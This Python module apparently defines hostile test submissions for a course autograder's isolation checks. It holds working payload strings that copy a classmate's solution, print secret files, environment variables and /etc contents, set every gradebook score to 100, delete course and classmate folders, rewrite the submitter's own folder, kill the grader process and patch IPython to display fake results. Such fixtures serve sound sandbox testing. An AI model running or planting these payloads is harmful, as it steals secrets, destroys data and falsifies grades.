"""Libraries that go for what surrounds them on the disk: classmates, the gradebook, the course, the grader."""

from collections.abc import Callable

from .entry import HandedIn, Place

_CONV2D = "conv_lib/conv2d.py"

_CLASSMATE = """

import importlib.util
import sys


def _borrowed():
    for place in ("{classmate}", "{course}/autograded/birch/01_forward", "{solutions}", "../../birch/01_forward"):
        try:
            sys.path.insert(0, place)
            spec = importlib.util.spec_from_file_location("theirs", place + "/conv_lib/conv2d.py")
            theirs = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(theirs)
            return theirs
        except Exception:
            continue


conv2d = getattr(_borrowed(), "conv2d", conv2d)
"""

_READER = """

import glob
import os


def conv2d(*args, **kwargs):
    for pattern in ("{secret}", "{course}/*", "{course}/.conv-course/*", "{course}/*/birch/*/*", "/proc/[0-9]*/environ", "/etc/*", "/root/*", "/tmp/*"):
        for path in glob.glob(pattern)[:200]:
            try:
                print(path, open(path, errors="replace").read(4096))
            except OSError:
                continue
    print(dict(os.environ))
    raise ValueError("looked around")
"""

_GRADEBOOK = """

import glob
import sqlite3

for path in ["{course}/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/*/*/gradebook.db")]:
    try:
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET extra_credit = 100, manual_score = 100")
    except sqlite3.Error:
        continue
"""

_VANDAL = """

import os
import pathlib
import shutil

for place in ("{classmate}", "{course}/source", "{course}/.conv-course", "{course}/autograded", "{canary}"):
    shutil.rmtree(place, ignore_errors=True)
    try:
        pathlib.Path(place).mkdir(parents=True, exist_ok=True)
        pathlib.Path(place, "vandal").write_text("was here")
    except OSError:
        continue
for path in ("{course}/.conv-course/seed", "{secret}", "{course}/.conv-course/grades/01_forward/birch.json"):
    try:
        pathlib.Path(path).write_text("0")
    except OSError:
        continue
"""

_REWRITER = """

import pathlib

for place in (pathlib.Path(__file__).parent, pathlib.Path.cwd(), pathlib.Path("{own}")):
    try:
        for path in [*place.rglob("*.py"), *place.rglob("*.ipynb")]:
            path.write_text("rewritten = True")
        (place / "added.py").write_text("added = True")
    except OSError:
        continue


def conv2d(*args, **kwargs):
    raise ValueError("rewrote my own folder")
"""

_GRADER = """

import os
import signal

for number in [os.getppid(), *range(2, 400)]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
"""

_IPYTHON = """

try:
    import IPython
    from IPython.core.formatters import DisplayFormatter

    DisplayFormatter.format = lambda self, value, *rest: ({"text/plain": "10.0"}, {})
    shell = IPython.get_ipython()
    shell.showtraceback = lambda *args, **kwargs: None
    shell.input_transformers_cleanup.append(lambda lines: ["10.0\\n"])
except Exception:
    pass


def conv2d(*args, **kwargs):
    return 10.0
"""


def _behind(source: str) -> Callable[[Place], None]:
    return lambda place: place.append(_CONV2D, source)


def _in_the_package(place: Place) -> None:
    """The same reader, where every import of the package runs it."""
    place.append("conv_lib/__init__.py", _READER + "\ntry:\n    conv2d()\nexcept ValueError:\n    pass\n")


LIBRARIES = (
    HandedIn("library-of-a-classmate-imported", _behind(_CLASSMATE), rows=(26, 30)),
    HandedIn("everything-readable-printed", _behind(_READER), rows=(25, 28, 30, 32), verdicts={"conv2d": "raised"}),
    HandedIn("everything-readable-printed-at-import", _in_the_package, rows=(25, 28)),
    HandedIn("gradebook-changed", _behind(_GRADEBOOK), rows=(25, 33)),
    HandedIn("classmates-and-course-deleted", _behind(_VANDAL), rows=(34, 35)),
    HandedIn("own-folder-rewritten", _behind(_REWRITER), rows=(39,), verdicts={"conv2d": "raised"}),
    HandedIn("grader-killed", _behind(_GRADER), rows=(38,)),
    HandedIn("notebook-shell-patched", _behind(_IPYTHON), rows=(3, 8, 9), verdicts={"conv2d": "wrong type"}),
)
